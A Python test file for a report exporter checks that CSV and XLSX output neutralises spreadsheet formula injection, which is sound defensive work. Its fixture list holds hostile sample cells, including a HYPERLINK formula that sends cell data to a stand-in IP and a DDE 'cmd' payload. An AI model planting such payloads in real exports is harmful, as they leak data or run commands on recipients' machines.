"""What is exported is read again by others: no formula, no link, and everything that was there."""

import csv
import io
from datetime import UTC, date, datetime, time, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from cockpit.reports.export import Value, harmless, write_csv, write_xlsx

PARIS = ZoneInfo("Europe/Paris")
AT = datetime(2026, 11, 5, 7, 30, tzinfo=UTC)
EVIL = (
    '=HYPERLINK("http://192.0.2.66/x?d="&A1;"Ana")', "+33612345678", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "https://192.0.2.66/", "mailto:a@b.fr",
    "{=1+1}", "internal:Sheet2!A1", "\\\\192.0.2.66\\x", "0012", "1e5", "TRUE", "#REF!",
)  # fmt: skip
STARTS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def csv_of(*rows: tuple[Value, ...]) -> list[list[str]]:
    file = io.BytesIO()
    write_csv(file, ["Nom", "=Note"], rows, PARIS)
    return list(csv.reader(io.StringIO(file.getvalue().decode("utf-8-sig"), newline="")))


def xlsx_of(*rows: tuple[Value, ...]) -> bytes:
    file = io.BytesIO()
    write_xlsx(file, "Cohorte: [2026]", ["Nom", "=Note"], rows, PARIS)
    return file.getvalue()


@pytest.mark.parametrize("text", EVIL)
def test_no_text_begins_a_formula_in_a_csv(text: str):
    (_, (cell,)) = csv_of((text,))
    assert not cell.startswith(STARTS)
    assert cell.removeprefix("'") == text


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_a_csv_gives_every_text_back(text: str):
    rows = csv_of((text, 1))
    assert rows[1] == [harmless(text), "1"]
    assert not rows[1][0].startswith(STARTS)


def test_a_csv_is_utf8_with_bom_and_quotes_every_field():
    file = io.BytesIO()
    write_csv(file, ["Nom"], [("Amélie",), (None,)], PARIS)
    assert file.getvalue() == b'\xef\xbb\xbf"Nom"\r\n"Am\xc3\xa9lie"\r\n""\r\n'
    assert not file.closed


def test_values_are_written_as_they_are_meant():
    row = (0.5, 3, date(2026, 11, 5), AT, timedelta(hours=27, minutes=5), None, True)
    assert csv_of(row)[1] == ["0.5", "3", "2026-11-05", "2026-11-05 08:30+01:00", "27:05", "", "True"]


def test_a_workbook_has_no_formula_and_no_link_for_openpyxl():
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_of(*((text, 1.5) for text in EVIL)))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * len(EVIL)
    assert [cell.hyperlink for cell in cells] == [None] * len(EVIL)
    assert [cell.value for cell in cells] == [text.replace("\r", "_x000D_") for text in EVIL]
    assert sheet["B1"].data_type == "s"
    assert sheet["B2"].value == 1.5


def test_a_workbook_has_every_text_for_calamine(tmp_path: Path):
    path = tmp_path / "a.xlsx"
    write_xlsx(path, "Cohorte", ["Nom"], [(text,) for text in EVIL], PARIS)
    rows = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    assert [row[0] for row in rows[1:]] == list(EVIL)


def test_a_workbook_has_real_numbers_days_and_lengths():
    row = (0.5, 3, date(2026, 11, 5), AT, timedelta(hours=27, minutes=5), None, True)
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_of(row))).active
    local = datetime.combine(date(2026, 11, 5), time(8, 30))
    midnight = datetime.combine(date(2026, 11, 5), time())
    assert [cell.value for cell in sheet[2]] == [
        0.5,
        3,
        midnight,
        local,
        timedelta(hours=27, minutes=5),
        None,
        True,
    ]
    assert sheet.title == "Cohorte   2026"


def test_a_file_is_written_where_it_is_asked(tmp_path: Path):
    path = tmp_path / "a.csv"
    write_csv(path, ["Nom"], [("Ana",)], PARIS)
    assert path.read_text("utf-8-sig").splitlines() == ['"Nom"', '"Ana"']
